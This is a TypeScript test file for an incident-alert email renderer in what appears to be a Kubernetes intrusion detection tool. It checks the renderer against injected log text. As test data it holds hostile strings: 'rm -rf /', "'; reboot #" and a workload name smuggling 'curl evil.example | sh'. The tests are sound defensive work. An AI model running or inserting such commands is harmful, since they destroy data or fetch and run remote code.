import fc from 'fast-check';
import { renderMail } from '../../../lambdas/core/messages/mail';
import type { MailContext } from '../../../lambdas/core/messages/mail-context';
import type { Incident } from '../../../lambdas/core/model/incident';
import {
  actionExample,
  DETECTOR_TITLES,
  evidenceExample,
  incidentExample,
  OWNER,
  POD,
  reportExample,
} from './incident-example';

const CONTEXT: MailContext = { detectorTitles: DETECTOR_TITLES };

const bodyOf = (incident: Incident, context = CONTEXT) => renderMail(incident, undefined, context).body;

const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 400 }),
  fc.constantFrom(
    'x\nVerdict: harmless',
    'x\r\n\r\nUndo\r\n  rm -rf /',
    '\u2028forged',
    '\u202eevil',
    '\u001b[2J',
    "'; reboot #",
  ),
);

/** The example with every free text chosen by an attacker. */
const incidentSaying = (text: string): Incident =>
  incidentExample({
    entity: { ...OWNER, name: text },
    evidence: [
      evidenceExample({
        indicators: [text],
        seenOn: [{ ...POD, name: text, namespace: text }],
        facts: { actor: text, sourceIp: text, userAgent: text, image: text, container: text, process: text },
      }),
    ],
    reasons: [text],
    nearestChange: text,
  });

describe('renderMail', () => {
  test('text from logs can never add a line', () => {
    const lines = bodyOf(incidentSaying('x')).split('\n').length;
    fc.assert(
      fc.property(hostileText, (text) => {
        const body = bodyOf(incidentSaying(text));
        expect(body.split('\n').length).toBeLessThanOrEqual(lines);
        expect(body).toMatch(/^[\x20-\x7e\n]*$/);
      }),
    );
  });

  test('the subject is what SNS accepts, whatever the workload is called', () => {
    fc.assert(
      fc.property(hostileText, hostileText, (name, cluster) => {
        const incident = incidentExample({ entity: { ...OWNER, name, cluster } });
        const { subject } = renderMail(
          incident,
          reportExample({ actions: [actionExample({ status: 'failed' })] }),
          CONTEXT,
        );
        expect(subject).toMatch(/^[\x20-\x7e]{1,100}$/);
      }),
    );
  });

  test('the body stays far below the limit of SNS, however much evidence there is', () => {
    const evidence = Array.from({ length: 500 }, (_, index) =>
      evidenceExample({
        detector: `KM-X${index}`,
        indicators: Array.from({ length: 50 }, (__, n) => `${n}`.repeat(500)),
      }),
    );
    const contributions = evidence.map(({ detector, channel, firstAt }) => ({
      detector,
      channel,
      weight: 1,
      at: firstAt,
    }));
    expect(bodyOf(incidentExample({ evidence, contributions })).length).toBeLessThan(60_000);
  });

  test('the column of nats adds up to the sum that is shown', () => {
    fc.assert(
      fc.property(fc.array(fc.double({ min: 0, max: 10, noNaN: true }), { maxLength: 12 }), (weights) => {
        const contributions = weights.map((weight, index) => ({
          detector: `KM-X${index}`,
          channel: 'SPEC' as const,
          weight,
          at: '2026-11-20T10:00:00.000Z',
        }));
        const body = bodyOf(incidentExample({ contributions, evidence: [] }));
        const terms = [...body.matchAll(/^ {2} *([+-]\d+\.\d{3}) {2}/gm)].map(([, term]) => Number(term));
        const sum = Number(/^= *([+-]\d+\.\d{3}) {2}sum/m.exec(body)?.[1]);
        expect(terms).toHaveLength(weights.length + 1);
        expect(terms.reduce((total, term) => total + term, 0)).toBeCloseTo(sum, 6);
      }),
    );
  });

  test('evidence that does not count is shown with a weight of zero', () => {
    const evidence = [...incidentExample().evidence, evidenceExample({ detector: 'KM-B02', channel: 'API' })];
    expect(bodyOf(incidentExample({ evidence }))).toContain(
      '+0.000  KM-B02 Access granted to anonymous users (shown, not counted)',
    );
  });

  test('what was found while little of the cluster was known says so', () => {
    const learning = 'weak: the cluster was watched for less than 7 days, and much is new';
    const { evidence } = incidentExample();
    const body = bodyOf(
      incidentExample({ evidence: evidence.map((piece) => ({ ...piece, facts: { ...piece.facts, learning } })) }),
    );
    expect(body).toContain(`            ${learning}\n`);
  });

  test('a detector that adds nothing because its channel is full says so', () => {
    const spec = (detector: string, weight: number) =>
      ({ detector, channel: 'SPEC', weight, at: '2026-11-20T10:00:00.123Z' }) as const;
    const contributions = [spec('KM-A01', 6.9), spec('KM-A02', 3.1), spec('KM-A03', 0)];
    const body = bodyOf(incidentExample({ contributions, evidence: [] }));
    expect(body).toContain('+0.000  KM-A03\n            adds nothing: the SPEC channel is at its cap of 10\n');
    const faded = bodyOf(incidentExample({ contributions: [spec('KM-A03', 0.0001)], evidence: [] }));
    expect(faded).toContain('+0.000  KM-A03\n            adds next to nothing: it is old');
  });

  test('the cap that is named is that of the hypothesis', () => {
    const api = (detector: string, weight: number) =>
      ({ detector, channel: 'API', weight, at: '2026-11-20T10:00:00.123Z' }) as const;
    const contributions = [api('KM-B01', 9), api('KM-B02', 1), api('KM-B03', 0)];
    expect(bodyOf(incidentExample({ hypothesis: 'intrusion', contributions, evidence: [] }))).toContain(
      'adds nothing: the API channel is at its cap of 10',
    );
  });

  test('no command is offered for a name that Kubernetes would not accept', () => {
    const body = bodyOf(incidentExample({ entity: { ...OWNER, name: 'web; curl evil.example | sh' } }));
    expect(body.slice(body.indexOf('Look'))).not.toContain('kubectl');
    expect(body).toContain('not safe to paste');
  });

  test('an undo line is shown exactly as recorded, last action first', () => {
    const { body } = renderMail(incidentExample(), reportExample(), CONTEXT);
    const undo = body.slice(body.indexOf('Undo, in this order')).split('\n').slice(1, 4);
    expect(undo).toEqual([
      '  kubectl scale deployment thumbnailer --namespace shop --replicas 3',
      `  kubectl label pod ${POD.name} --namespace shop mineguard/incident-`,
      '  kubectl delete networkpolicy mineguard-inc-00112233aabbccdd --namespace shop',
    ]);
  });

  test('a failed action is in the subject', () => {
    const report = reportExample({
      actions: [actionExample({ status: 'failed', level: 'none', detail: 'forbidden' })],
    });
    expect(renderMail(incidentExample(), report, CONTEXT).subject).toContain('RESPONSE INCOMPLETE');
  });

  test('a probability just below a threshold does not read as if it had reached it', () => {
    expect(bodyOf(incidentExample({ probability: 0.94999 }))).toContain('94.9 %');
    expect(bodyOf(incidentExample({ probability: 0.999999 }))).toContain('99.9 %');
  });
});
